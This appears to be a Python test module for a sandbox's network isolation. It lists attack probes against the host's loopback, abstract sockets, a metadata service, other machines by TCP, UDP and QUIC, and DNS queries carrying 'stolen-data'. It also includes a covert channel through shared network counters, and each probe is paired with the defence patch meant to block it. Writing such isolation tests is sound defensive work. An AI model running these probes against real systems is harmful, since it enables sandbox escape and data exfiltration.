"""Attacks on the network: there is none in a sandbox, so nothing that listens on the host is reached by any road."""

from __future__ import annotations

from outer import Attack, Defence, Patch, Scene

# Every box would live in the network namespace of the engine.
NETWORK: Defence = (Patch(
    "        syscalls.unshare(syscalls.CLONE_NEWNET)\n        _loopback_up()\n"
    '        fd = os.open(_PORTS, os.O_WRONLY)\n        os.write(fd, b"0")\n        os.close(fd)\n'),)

TCP = """
with socket.socket({family}) as s:
    s.settimeout(3)
    s.connect({address})
    hit(s.recv(100).decode().index(T["word"]) + 1)
"""
UDP = """
with socket.socket({family}, socket.SOCK_DGRAM) as s:
    s.settimeout(3)
    s.sendto({data}, {address})
    answer = s.recv(1000)
    hit(T["word"].encode() in answer and {data}[:40] in answer and "answered")
"""
# RFC 1035: a query whose name carries what is to be smuggled out
QUESTION = r"""b"\x12\x34\x01\0\0\x01\0\0\0\0\0\0\x0bstolen-data\x07example\0\0\x10\0\x01" """.strip()
INET, INET6 = "socket.AF_INET", "socket.AF_INET6"


def _tcp(address: str, family: str = INET) -> str:
    return TCP.format(family=family, address=address)


def _udp(address: str, data: str, family: str = INET) -> str:
    return UDP.format(family=family, address=address, data=data)


RESOLVER = """
for server in ("127.0.0.1", "127.0.0.53", *T["addresses"][:2]):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(1)
        try:
            s.sendto(QUESTION, (server, 53))
            hit(b"stolen-data" in s.recv(1000) and server)
        except OSError:
            pass
""".replace("QUESTION", QUESTION)

WRITE_COUNTS = """
for _ in range(77):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.connect_ex(("10.1.1.1", 9))
"""
READ_COUNTS = """
names, counts = [line.split() for line in open("/proc/net/snmp") if line.startswith("Ip:")]
hit(dict(zip(names, counts))["OutNoRoutes"] == "77" and "what another sandbox wrote")
"""


async def _message_in_counters(scene: Scene) -> str | None:
    """A sandbox leaves a number for the next one in the counters of a network that both use, one after the other."""
    first = await scene.box()
    await scene.run_in(first, WRITE_COUNTS)
    await first.close()
    return await scene.run(READ_COUNTS)


ATTACKS = (
    # 10: the host's own services
    Attack(10, "an abstract socket", _tcp('"\\0" + T["abstract"]', "socket.AF_UNIX"), (NETWORK,)),
    Attack(10, "the host's loopback", _tcp('("127.0.0.1", 80)'), (NETWORK,)),
    Attack(10, "the host's loopback by IPv6", _tcp('("::1", 80)', INET6), (NETWORK,), needs=("IPv6",)),
    Attack(10, "every address of this machine", _tcp('("0.0.0.0", 80)'), (NETWORK,)),
    Attack(10, "a message in the counters of a network", act=_message_in_counters, defences=((Patch(
        "            if untouched() and counters() == self._fresh:\n", "            if untouched():\n"),),)),
    # 11: addresses
    Attack(11, "the metadata service", _tcp('(T["addresses"][0], 80)'), (NETWORK,)),
    Attack(11, "a machine by its address", _tcp('(T["addresses"][1], 80)'), (NETWORK,)),
    Attack(11, "a machine by IPv6", _tcp('(T["addresses"][2], 80)', INET6), (NETWORK,), needs=("IPv6",)),
    Attack(11, "IPv4 in IPv6", _tcp('("::ffff:" + T["addresses"][0], 80)', INET6), (NETWORK,), needs=("IPv6",)),
    Attack(11, "UDP", _udp('(T["addresses"][1], 443)', 'b"anything"'), (NETWORK,)),
    Attack(11, "QUIC", _udp('(T["addresses"][1], 443)', r"(b'\xc3\x00\x00\x00\x01\x08' + bytes(1194))"), (NETWORK,)),
    # 12: names
    Attack(12, "data in a question for a name", _udp('(T["addresses"][1], 53)', QUESTION), (NETWORK,)),
    Attack(12, "data through the host's resolver", RESOLVER, (NETWORK,)),
)
